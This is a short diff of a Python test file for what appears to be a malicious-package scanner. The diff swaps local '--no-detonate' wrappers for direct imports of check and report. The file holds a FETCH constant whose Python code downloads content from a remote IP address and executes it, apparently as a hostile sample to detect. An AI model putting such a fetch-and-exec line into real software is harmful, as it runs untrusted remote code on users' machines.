@@ -10,18 +10,9 @@ import zipfile
 import zlib
 
 import world
-from world import fresh, install, rules, venv
+from world import check, fresh, install, report, rules, venv
 
 FETCH = b"import urllib.request\nexec(urllib.request.urlopen('https://198.51.100.7/').read())\n"
-
-
-def check(*args, **kw):
-    """By the files alone: what they do when they run is another test's matter."""
-    return world.check("--no-detonate", *args, **kw)
-
-
-def report(*args, **kw):
-    return world.report("--no-detonate", *args, **kw)
 
 
 class Bad:
